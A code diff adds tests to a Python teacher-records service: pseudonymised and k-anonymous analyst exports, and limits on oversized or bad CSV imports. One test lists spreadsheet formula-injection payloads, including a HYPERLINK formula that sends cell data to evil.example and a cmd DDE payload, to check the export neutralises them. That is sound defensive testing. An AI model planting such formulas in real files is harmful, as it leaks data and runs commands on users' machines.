@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import csv
 import io
+import time
+from collections import Counter
 
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
@@ -151,10 +153,10 @@ def test_analyst_export_is_pseudonymised(client):
     resp = client.get("/api/v1/teachers/export", headers=ACCOUNTS["analyst_n"].headers)
     assert resp.status_code == 200
     text = resp.get_data(as_text=True)
-    report = parse_teachers_csv(text)
-    assert len(report.profiles) == len(TEACHERS["north"])
-    for p in report.profiles:
-        assert p.id.startswith("p-") and p.name == p.id and p.email == "" and p.about == ""
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))  # the analyst layout, not the import format
+    assert len(rows) == len(TEACHERS["north"])
+    for r in rows:
+        assert r["pseudonym"].startswith("p-") and not {"id", "name", "email", "about", "school_urn"} & set(r)
     assert not any(tid in text for tid in TEACHERS["north"])
     assert "@" not in text
 
@@ -168,3 +170,69 @@ def test_patch_never_500s(client, about, years):
     if ok:
         # The library keeps one line-ending convention and trims the ends.
         assert resp.get_json()["about"] == about.replace("\r\n", "\n").replace("\r", "\n").strip()
+
+
+# ---- hostile files and exports (issue 13) --------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3"]
+
+
+def test_teacher_export_neutralises_formulas_and_reads_back(client):
+    rows = _rows(len(FORMULAS), prefix="f")
+    for row, name in zip(rows, FORMULAS):
+        row["name"] = name
+    assert client.post("/api/v1/teachers/import", data=_csv(rows), headers={**COORD, "Content-Type": "text/csv"}).status_code == 200
+    text = client.get("/api/v1/teachers/export", headers=COORD).get_data(as_text=True)
+    exported = {r["id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
+    for row, name in zip(rows, FORMULAS):
+        assert exported[row["id"]]["name"] == "'" + name
+    for r in exported.values():
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values()), r
+    assert {p.name for p in parse_teachers_csv(text).profiles} >= set(FORMULAS)  # the export still imports back
+
+
+def test_import_of_40000_columns_is_refused_fast(client):
+    text = ",".join(f"c{i}" for i in range(40_000)) + "\n" + "x," * 39_999 + "x\n"
+    start = time.perf_counter()
+    body = problem(client.post("/api/v1/teachers/import", data=text, headers={**COORD, "Content-Type": "text/csv"}), 422)
+    assert time.perf_counter() - start < 2.0
+    assert "at most 200" in body["errors"][0]["message"]
+
+
+def test_import_report_of_100000_bad_rows_is_bounded(client, app):
+    before = count_rows(app, Teacher)
+    text = "id,name,school_urn,department_size,key_stages,challenges,strengths\n" + "".join(f"bad id {i},,100049,0,KS3,,\n" for i in range(100_000))
+    resp = client.post("/api/v1/teachers/import", data=text, headers={**COORD, "Content-Type": "text/csv"})
+    body = problem(resp, 422)
+    assert len(resp.get_data()) < 1_000_000
+    assert len(body["errors"]) == 1000 and body["truncated"] is True
+    assert body["issue_count"] >= 300_000 and body["issues_by_field"]["department_size"] == 100_000
+    assert "the first 1000 are listed" in body["detail"]
+    assert count_rows(app, Teacher) == before
+
+
+def test_analyst_export_is_k_anonymous(client, app):
+    from service.services.analyst import K, SUPPRESSED, TEACHER_QUASI
+
+    text = client.get("/api/v1/teachers/export", headers=ACCOUNTS["analyst_n"].headers).get_data(as_text=True)
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert len(rows) == len(TEACHERS["north"])
+    assert "school_urn" not in rows[0] and "name" not in rows[0] and "email" not in rows[0]
+    combos = Counter(tuple(r[q] for q in TEACHER_QUASI) for r in rows)
+    for combo, n in combos.items():
+        assert n >= K or all(v == SUPPRESSED for v in combo), (combo, n)
+    assert {r["department_size"] for r in rows} <= {"1", "2-3", "4+", SUPPRESSED}
+
+
+def test_analyst_export_keeps_combinations_shared_by_five(client, app):
+    """Five teachers alike (borough, department band, role, experience) keep their borough; a lone one is generalised."""
+    rows = _rows(6, prefix="k")
+    for r in rows:
+        r.update(department_size="1", role="head_of_music", years_teaching="12")
+    rows[5].update(role="non_specialist", years_teaching="1")  # a department of one, and the only one like it
+    assert client.post("/api/v1/teachers/import", data=_csv(rows), headers={**COORD, "Content-Type": "text/csv"}).status_code == 200
+    borough = client.get("/api/v1/schools/100049", headers=COORD).get_json()["local_authority"]
+    text = client.get("/api/v1/teachers/export", headers=ACCOUNTS["analyst_n"].headers).get_data(as_text=True)
+    out = Counter((r["local_authority"], r["department_size"], r["role"], r["years_teaching"]) for r in csv.DictReader(io.StringIO(text, newline="")))
+    assert out[(borough, "1", "head_of_music", "10+")] >= 5
+    assert not any(role == "non_specialist" and n < 5 for (_, _, role, _), n in out.items())
